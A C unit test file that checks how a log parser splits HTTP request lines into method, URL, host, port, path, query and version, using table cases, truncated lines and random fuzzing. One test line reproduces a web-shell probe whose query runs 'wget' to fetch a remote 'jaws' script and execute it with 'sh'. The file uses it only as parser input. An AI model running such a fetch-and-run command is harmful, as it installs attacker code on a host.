/* The request column taken apart: the shapes that occur (FORMATS 1a, ODDITIES 5-10), then every cut and chance.
 *
 * The column ends 64 bytes before an unreadable page, as in a batch, and they hold whatever could end a part.
 *
 * Threads: one. */
#define _GNU_SOURCE
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "ingest/split.h"
#include "tests/unit/guard.h"
#include "tests/unit/seeded.h"

struct request_case {
    const char *what, *line;
    const char *method, *url, *scheme, *domain;
    uint32_t port;
    const char *path, *query, *version;
};

/* clang-format off */
static const struct request_case request_cases[] = {
    {"as usual", "GET https://www.example.com:443/a/b?x=1 HTTP/1.1",
     "GET", "https://www.example.com:443/a/b?x=1", "https", "www.example.com", 443, "/a/b", "x=1", "1.1"},
    {"HTTP/2 with a long version", "POST https://h:8443/ HTTP/2.0",
     "POST", "https://h:8443/", "https", "h", 8443, "/", "", "2.0"},
    {"a raw space in the URL", "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh HTTP/1.1",
     "GET", "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh", "http", "127.0.0.1", 80, "/shell", "cd+/tmp;wget+ a.example/jaws;sh", "1.1"},
    {"spaces in the path", "GET http://h:80/a b  c HTTP/1.0",
     "GET", "http://h:80/a b  c", "http", "h", 80, "/a b  c", "", "1.0"},
    {"no request arrived", "- http://host:80- -",
     "", "http://host:80-", "http", "host", 80, "", "", ""},
    {"no request arrived, protocol empty", "- http://host:8080- ",
     "", "http://host:8080-", "http", "host", 8080, "", "", ""},
    {"no request, but a path", "- http://host:80-/ ",
     "", "http://host:80-/", "http", "host", 80, "/", "", ""},
    {"a space behind the protocol", "GET http://h:80/ HTTP/1.0 ",
     "GET", "http://h:80/", "http", "h", 80, "/", "", "1.0"},
    {"no port and no path", "GET https://example.com HTTP/2.0",
     "GET", "https://example.com", "https", "example.com", 0, "", "", "2.0"},
    {"a method with underscores", "SSTP_DUPLEX_POST https://h:443/sra_{BA195980}/ HTTP/1.1",
     "SSTP_DUPLEX_POST", "https://h:443/sra_{BA195980}/", "https", "h", 443, "/sra_{BA195980}/", "", "1.1"},
    {"a method like an option", "--location https://h:443/ HTTP/1.1",
     "--location", "https://h:443/", "https", "h", 443, "/", "", "1.1"},
    {"a tunnel", "CONNECT example.com:443 HTTP/1.1", "CONNECT", "example.com:443", "", "example.com", 443, "", "", "1.1"},
    {"a tunnel to an IPv6 host", "CONNECT [::1]:8443 HTTP/1.1", "CONNECT", "[::1]:8443", "", "[::1]", 8443, "", "", "1.1"},
    {"a tunnel that is a URL", "CONNECT http://h:80/x HTTP/1.1", "CONNECT", "http://h:80/x", "http", "h", 80, "/x", "", "1.1"},
    {"an IPv6 host", "GET https://[::ffff:a9fe:a9fe]:443/ HTTP/1.1",
     "GET", "https://[::ffff:a9fe:a9fe]:443/", "https", "[::ffff:a9fe:a9fe]", 443, "/", "", "1.1"},
    {"an IPv6 host without a port", "GET https://[::1]/ HTTP/1.1",
     "GET", "https://[::1]/", "https", "[::1]", 0, "/", "", "1.1"},
    {"a TCP listener of a classic balancer", "- - - ", "", "", "", "", 0, "", "", ""},
    {"nothing but a dash", "-", "", "", "", "", 0, "", "", ""},
    {"nothing", "", "", "", "", "", 0, "", "", ""},
    {"only spaces", "   ", "", "", "", "", 0, "", "", ""},
    {"a method alone", "GET", "GET", "", "", "", 0, "", "", ""},
    {"a method and a protocol", "GET HTTP/1.1", "GET", "", "", "", 0, "", "", "1.1"},
    {"an empty URL", "GET  HTTP/1.1", "GET", "", "", "", 0, "", "", "1.1"},
    {"a dash for the URL", "GET - HTTP/1.1", "GET", "", "", "", 0, "", "", "1.1"},
    {"no protocol", "GET http://h:80/", "GET", "http://h:80/", "http", "h", 80, "/", "", ""},
    {"a protocol without a version is part of the URL", "GET http://h:80/ HTTP/",
     "GET", "http://h:80/ HTTP/", "http", "h", 80, "/ HTTP/", "", ""},
    {"a query without a path", "GET http://h:80?a=b HTTP/1.1", "GET", "http://h:80?a=b", "http", "h", 80, "", "a=b", "1.1"},
    {"an empty query", "GET http://h:80/? HTTP/1.1", "GET", "http://h:80/?", "http", "h", 80, "/", "", "1.1"},
    {"a question mark in the query", "GET http://h:80/?a=?b HTTP/1.1", "GET", "http://h:80/?a=?b", "http", "h", 80, "/", "a=?b", "1.1"},
    {"a fragment", "GET http://h:80/p?q#f?g HTTP/1.1", "GET", "http://h:80/p?q#f?g", "http", "h", 80, "/p", "q", "1.1"},
    {"a fragment without a path", "GET http://h:80#f HTTP/1.1", "GET", "http://h:80#f", "http", "h", 80, "", "", "1.1"},
    {"somebody in front of the host", "GET http://me:pw@h:80/ HTTP/1.1", "GET", "http://me:pw@h:80/", "http", "h", 80, "/", "", "1.1"},
    {"an at sign behind the host", "GET http://h:80/a@b HTTP/1.1", "GET", "http://h:80/a@b", "http", "h", 80, "/a@b", "", "1.1"},
    {"a port that is none", "GET http://h:65536/ HTTP/1.1", "GET", "http://h:65536/", "http", "h:65536", 0, "/", "", "1.1"},
    {"the highest port", "GET http://h:65535/ HTTP/1.1", "GET", "http://h:65535/", "http", "h", 65535, "/", "", "1.1"},
    {"six digits", "GET http://h:000080/ HTTP/1.1", "GET", "http://h:000080/", "http", "h:000080", 0, "/", "", "1.1"},
    {"a port of letters", "GET http://h:http/ HTTP/1.1", "GET", "http://h:http/", "http", "h:http", 0, "/", "", "1.1"},
    {"two ports, as when Host has one", "GET http://h:8080:80/ HTTP/1.1", "GET", "http://h:8080:80/", "http", "h:8080", 80, "/", "", "1.1"},
    {"no host", "GET http://:80/ HTTP/1.1", "GET", "http://:80/", "http", "", 80, "/", "", "1.1"},
    {"a host that ends with a dash", "GET http://h-:80/ HTTP/1.1", "GET", "http://h-:80/", "http", "h-", 80, "/", "", "1.1"},
    {"a path alone", "GET /a?b HTTP/1.1", "GET", "/a?b", "", "", 0, "/a", "b", "1.1"},
    {"an asterisk", "OPTIONS * HTTP/1.1", "OPTIONS", "*", "", "", 0, "*", "", "1.1"},
    {"WebSocket", "GET wss://h:443/chat HTTP/1.1", "GET", "wss://h:443/chat", "wss", "h", 443, "/chat", "", "1.1"},
    {"escapes are left alone", "GET http://h:80/?bar=\\x22 HTTP/1.1", "GET", "http://h:80/?bar=\\x22", "http", "h", 80, "/", "bar=\\x22", "1.1"},
    {"upper case is no scheme of a balancer", "GET HTTP://h/ HTTP/1.1", "GET", "HTTP://h/", "", "", 0, "HTTP://h/", "", "1.1"},
};
/* clang-format on */

/* Splits what a record holds from the third byte on. */
static struct record split(struct slice line) {
    static const char behind[TEXT_PADDING_BYTES + 1] =
        "?a=1 #/@:80://host:443-  HTTP/1.1 /path?query#fragment @ https:/?";
    static char room[4096];
    assert_true(line.len + 2 + TEXT_PADDING_BYTES <= sizeof room);
    memcpy(room, "/:", 2);
    if (line.len > 0) memcpy(room + 2, line.ptr, line.len);
    memcpy(room + 2 + line.len, behind, TEXT_PADDING_BYTES);
    struct record record = {.text = guard_copy((struct slice){room, line.len + 2 + TEXT_PADDING_BYTES}).ptr};
    request_line_split(&record, (struct span){2, (uint32_t)line.len});
    return record;
}

static void check_part(const struct record *record, struct span span, const char *expected, const char *what,
                       const char *part) {
    struct slice got = record_text(record, span);
    if (!slice_equal(got, slice_from(expected)))
        fail_msg("%s: %s is \"%.*s\" instead of \"%s\"", what, part, (int)got.len, got.ptr, expected);
}

static void test_known_lines(void **state) {
    (void)state;
    for (size_t i = 0; i < COUNT_OF(request_cases); i++) {
        const struct request_case *expected = &request_cases[i];
        struct record record = split(slice_from(expected->line));
        const struct request *request = &record.request;
        check_part(&record, request->method, expected->method, expected->what, "method");
        check_part(&record, request->url, expected->url, expected->what, "url");
        check_part(&record, request->scheme, expected->scheme, expected->what, "scheme");
        check_part(&record, request->domain, expected->domain, expected->what, "domain");
        check_part(&record, request->path, expected->path, expected->what, "path");
        check_part(&record, request->query, expected->query, expected->what, "query");
        check_part(&record, request->version, expected->version, expected->what, "version");
        if (request->port != expected->port) fail_msg("%s: port %u", expected->what, request->port);
    }
}

static void check_inside(struct span part, struct span whole) {
    if (part.length == 0) return;
    assert_true(part.offset >= whole.offset);
    assert_true(part.offset + part.length <= whole.offset + whole.length);
}

/* What must be true of any line, and of its parts among each other. */
static void check_any(struct slice line) {
    struct record record = split(line);
    const struct request *request = &record.request;
    struct span whole = {2, (uint32_t)line.len};
    const struct span parts[] = {request->scheme, request->domain, request->path, request->query};
    check_inside(request->method, whole);
    check_inside(request->version, whole);
    check_inside(request->url, whole);
    for (size_t i = 0; i < COUNT_OF(parts); i++) check_inside(parts[i], request->url);
    assert_true(request->port <= 65535);
    struct slice method = record_text(&record, request->method), url = record_text(&record, request->url);
    if (method.len > 0) assert_null(memchr(method.ptr, ' ', method.len));
    if (request->url.length > 0 && request->method.length > 0)
        assert_int_equal(request->url.offset, request->method.offset + request->method.length + 1);
    if (request->scheme.length > 0) assert_memory_equal(url.ptr + request->scheme.length, "://", 3);
    for (uint32_t i = 0; i < request->path.length; i++)
        assert_true(strchr("?#", record.text[request->path.offset + i]) == NULL);
    if (request->query.length > 0) assert_int_equal(record.text[request->query.offset - 1], '?');
}

static void test_cut_lines(void **state) {
    (void)state;
    for (size_t i = 0; i < COUNT_OF(request_cases); i++)
        for (size_t length = 0; length <= strlen(request_cases[i].line); length++)
            check_any((struct slice){request_cases[i].line, length});
}

static void test_random_lines(void **state) {
    (void)state;
    static const char *const pieces[] = {" ", "-", "GET", "http://",  "https://", "[::1]", ":",     "443", "/",
                                         "?", "#", "@",   "HTTP/1.1", "host",     "HTTP/", "99999", "é"};
    struct seeded seeded = {11};
    for (int round = 0; round < 100000; round++) {
        char line[256];
        size_t bytes = 0;
        for (uint32_t count = seeded_below(&seeded, 14); count > 0; count--) {
            const char *piece = pieces[seeded_below(&seeded, COUNT_OF(pieces))];
            memcpy(line + bytes, piece, strlen(piece));
            bytes += strlen(piece);
        }
        check_any((struct slice){line, bytes});
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_known_lines),
        cmocka_unit_test(test_cut_lines),
        cmocka_unit_test(test_random_lines),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
